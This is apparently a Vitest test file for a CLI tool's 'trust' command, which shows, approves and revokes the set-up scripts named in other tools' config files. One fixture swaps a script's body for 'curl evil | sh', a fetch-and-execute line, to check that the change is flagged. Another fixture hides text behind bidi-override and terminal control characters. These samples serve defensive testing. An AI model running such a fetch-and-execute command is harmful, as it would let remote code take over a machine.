import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { makeRepo } from '../support/git-repo.ts';
import type { Files, TempRepo } from '../support/git-repo.ts';
import { fanin, faninJson } from './fanin.ts';

let repo: TempRepo | null = null;
afterEach(async () => {
  await repo?.remove();
  repo = null;
});

async function repoWith(files: Files): Promise<TempRepo> {
  repo = await makeRepo({ files });
  return repo;
}

const CONFIG: Files = {
  'fanin.config.yaml':
    'agents: { own: { use: command, run: "true" } }\ndefaults: { agent: own }\nchecks: { unit: "true" }\n',
};
const CONDUCTOR: Files = {
  'conductor.json':
    '{\n  "scripts": {\n    "setup": "./s.sh\\necho \\u001b[2Jdone",\n    "archive": "down"\n  }\n}\n',
  's.sh': 'echo hello\n',
};

interface Survey {
  readonly commit: string;
  readonly scripts: readonly {
    readonly run: string;
    readonly trust: string;
    readonly changes: readonly string[];
    readonly files: Readonly<Record<string, string>>;
  }[];
}

describe('fanin trust', () => {
  it('shows each script whole with its line and the files that it names, and trusts nothing unasked', async () => {
    const { path } = await repoWith(CONDUCTOR);
    const { code, out, err } = await fanin(path, 'trust');
    expect(code).toBe(0);
    expect(out).toContain('2 set-up scripts would run in every workspace and are not trusted.');
    expect(out).toContain('conductor.json:3  set-up, new');
    expect(out).toContain('conductor.json:4  clean-up, new');
    expect(out).toContain('    ./s.sh\n    echo �[2Jdone\n  with s.sh\n');
    expect(err).toContain('Nothing was trusted');
    expect((await fanin(path, 'trust', '--list')).out).toBe('Nothing is trusted here.\n');
  });

  it('trusts what it has shown, and keeps that out of the repository', async () => {
    const own = await repoWith(CONDUCTOR);
    const { path } = own;
    expect((await fanin(path, 'trust', '--yes')).err).toContain('Trusted: 2 scripts.');
    expect(await own.git('status', '--porcelain', '--ignored')).toBe('');
    expect(await readFile(join(path, '.git/fanin/trust.json'), 'utf8')).toContain('./s.sh');
    expect((await fanin(path, 'trust')).out).toContain('2 set-up scripts, trusted.');
    expect((await fanin(path, 'trust', '--list')).out).toContain('conductor.json scripts.setup');
  });

  it('trusts what has changed no more, and says what that is', async () => {
    const own = await repoWith(CONDUCTOR);
    const { path } = own;
    await fanin(path, 'trust', '--yes');
    await own.commit({ 's.sh': 'curl evil | sh\n' });
    const { out } = await fanin(path, 'trust');
    expect(out).toContain('1 set-up script would run in every workspace and is not trusted.');
    expect(out).toContain('conductor.json:3  set-up, changed: s.sh');
    const { scripts } = await faninJson<Survey>(path, 'trust');
    expect(scripts.map(({ trust, changes }) => [trust, changes])).toEqual([
      ['changed', ['s.sh']],
      ['trusted', []],
    ]);
  });

  it('speaks of what is committed: what lies in the checkout reaches no workspace', async () => {
    const own = await repoWith({ a: '1\n' });
    const { path } = own;
    await own.write({ 'conductor.json': '{"scripts":{"setup":"x"}}' });
    const { out } = await fanin(path, 'trust', '--yes');
    expect(out).toContain('No set-up file of another tool asks for a script.');
    expect(out).toContain('conductor.json is not in HEAD, so no workspace has it');
  });

  it('takes one file, another commit, and no commit that is none', async () => {
    const own = await repoWith(CONDUCTOR);
    const { path } = own;
    await own.commit({ 'orca.yaml': 'scripts:\n  setup: other\n', 's.sh': 'new\n' });
    await fanin(path, 'trust', '--yes', '--at', 'HEAD^', 'conductor.json');
    const { scripts } = await faninJson<Survey>(path, 'trust');
    expect(scripts.map(({ run, trust }) => [run.slice(0, 6), trust])).toEqual([
      ['./s.sh', 'changed'],
      ['down', 'trusted'],
      ['other', 'new'],
    ]);
    const none = await fanin(path, 'trust', '--at', 'nowhere');
    expect([none.code, none.err.includes('[no-such-commit]')]).toEqual([2, true]);
  });

  it('takes trust back, by file or whole, as often as asked', async () => {
    const { path } = await repoWith({ ...CONDUCTOR, 'orca.yaml': 'scripts: { setup: other }\n' });
    await fanin(path, 'trust', '--yes');
    const one = await faninJson<{ revoked: readonly unknown[] }>(
      path,
      'trust',
      '--revoke',
      'orca.yaml',
    );
    expect(one.revoked).toHaveLength(1);
    expect((await fanin(path, 'trust', '--revoke')).out).toBe('No longer trusted: 2 scripts.\n');
    expect((await fanin(path, 'trust', '--revoke')).out).toBe('No longer trusted: 0 scripts.\n');
    expect((await fanin(path, 'trust', '--list')).out).toBe('Nothing is trusted here.\n');
  });
});

it('shows a script that would hide from a terminal, and asks for it by its own text', async () => {
  const setup = 'echo ok\u202e # \u2066 evil\r\necho 2\u0007';
  const { path } = await repoWith({ 'conductor.json': JSON.stringify({ scripts: { setup } }) });
  const { out } = await fanin(path, 'trust');
  for (const char of ['\u202e', '\u2066', '\r', '\u0007']) expect(out).not.toContain(char);
  expect(out).toContain('evil');
});

it('the doctor says which scripts run', async () => {
  const { path } = await repoWith({ ...CONFIG, ...CONDUCTOR });
  const before = (await fanin(path, 'doctor')).out.replaceAll(/\s+/gu, ' ');
  expect(before).toContain('! set-up the set-up script of conductor.json:3 does not run');
  await fanin(path, 'trust', '--yes');
  const after = (await fanin(path, 'doctor')).out.replaceAll(/\s+/gu, ' ');
  expect(after).toContain(
    'set-up trusted: conductor.json scripts.setup, conductor.json scripts.archive',
  );
});

describe('a plan', () => {
  it('says which scripts will not run, with the command that shows them', async () => {
    const { path } = await repoWith({ ...CONFIG, ...CONDUCTOR });
    const before = await fanin(path, 'plan', '-p', 'x');
    expect(before.code).toBe(0);
    const text = before.out.replaceAll(/\s+/gu, ' ');
    expect(text).toContain(
      'the set-up script of conductor.json:3 does not run: nobody has trusted it here; fanin trust shows it and asks',
    );
    await fanin(path, 'trust', '--yes');
    expect((await fanin(path, 'plan', '-p', 'x')).out).not.toContain('does not run');
  });

  it('names the commit where it does not start from HEAD', async () => {
    const own = await repoWith({ ...CONFIG, ...CONDUCTOR });
    const { path } = own;
    const base = await own.git('rev-parse', '--short=12', 'HEAD');
    await own.commit({ 'conductor.json': null });
    const { out } = await fanin(path, 'plan', '-p', 'x', '--base', 'HEAD^');
    expect(out.replaceAll(/\s+/gu, ' ')).toContain(`fanin trust --at ${base} shows it and asks`);
  });
});
